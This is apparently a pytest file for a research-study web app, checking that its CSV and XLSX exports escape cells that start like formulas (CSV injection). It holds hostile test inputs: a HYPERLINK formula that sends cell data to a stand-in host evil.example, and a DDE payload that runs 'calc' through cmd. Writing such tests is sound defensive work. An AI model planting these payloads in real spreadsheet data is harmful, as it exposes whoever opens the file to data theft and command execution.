"""Every CSV and XLSX export writes text that starts like a formula as text (CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
import time_machine

from werkbrug.core.spreadsheets import spreadsheet_cell, spreadsheet_text
from werkbrug.evaluations import codebook, services

EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"klik")'


@pytest.fixture
def today():
    with time_machine.travel(date(2026, 6, 1), tick=True):
        yield


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"),  # a formula
    ("+31 6 1234", "'+31 6 1234"),  # looks like a sum
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),  # programs skip leading whitespace before looking
    ("\r=1", "'\r=1"),
    ("gewoon", "gewoon"),  # ordinary text unchanged
    (-3, -3),  # numbers stay numbers
    (None, None),
])
def test_spreadsheet_cell(value, written):
    assert spreadsheet_cell(value) == written
    if isinstance(value, str):
        assert spreadsheet_text(written) == value


@pytest.fixture
def evil(populated, research, today):
    """Hostile text where researchers and respondents can type it: an open answer, a drop-out
    reason, an interview label, a code name and a questionnaire title."""
    portal = [i for i in populated.invitations if i.participant_id and i.participant_id != populated.people[8].pk]
    services.response_submit(invitation=portal[5], answers={"experience": EVIL, "grade": 7, "helped": 3})
    services.participant_stage_set(participant=populated.people[7], stage="dropped_out", reason="-1+cmd|' /C calc'!A0",
                                   recorded_by=research.researcher)
    interview = services.interview_add(round=populated.rounds[0], label="@R1-99", respondent_role="client",
                                       held_on=date(2026, 5, 1), transcript="Tekst.", added_by=research.researcher)
    code = services.code_create(study=populated.study, name="=Knelpunt", description="+beschrijving",
                                created_by=research.researcher)
    services.coding_add(passage=interview.passages.get(), code=code, level="client", coder=research.researcher)
    services.questionnaire_create(study=populated.study, title="=Titel", created_by=research.researcher,
                                  questions=[{"code": "score", "text": "=Vraag", "type": "grade"}])
    return populated


def _csv(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_no_formula(cells, *expected):
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))), cell
    for text in expected:
        assert "'" + text in cells


@pytest.mark.parametrize(("table", "expected"), [
    ("answers", [EVIL]),
    ("stages", ["-1+cmd|' /C calc'!A0"]),
    ("codings", ["@R1-99", "=Knelpunt"]),
    ("codebook", ["=Titel: =Vraag"]),
])
def test_study_csv_exports_escape_formulas(evil, research, client, table, expected):
    client.force_login(research.researcher)
    rows = _csv(client, f"/research/studies/{evil.study.pk}/export/?table={table}&format=csv")
    _assert_no_formula(_cells(rows), *expected)


def test_study_participants_csv_escapes_formulas(evil, research, client):
    client.force_login(research.researcher)
    rows = _csv(client, f"/api/v1/research/studies/{evil.study.pk}/export/?table=participants&format=csv")
    _assert_no_formula(_cells(rows[1:]))
    assert rows[0][0] == "participant"


def test_study_xlsx_export_has_no_formulas(evil, research, client):
    from openpyxl import load_workbook

    client.force_login(research.researcher)
    response = client.get(f"/research/studies/{evil.study.pk}/export/?format=xlsx")
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    _assert_no_formula(values, EVIL, "-1+cmd|' /C calc'!A0", "@R1-99", "=Knelpunt")


def test_codebook_csv_export_escapes_and_reimports(evil, research, client):
    client.force_login(research.researcher)
    rows = _csv(client, f"/research/studies/{evil.study.pk}/codes/export.csv")
    _assert_no_formula(_cells(rows), "=Knelpunt", "+beschrijving")
    again = codebook.from_csv("\n".join(",".join(f'"{c}"' for c in row) for row in rows))
    assert {"name": "=Knelpunt", "description": "+beschrijving"}.items() <= next(r for r in again if r["name"] == "=Knelpunt").items()
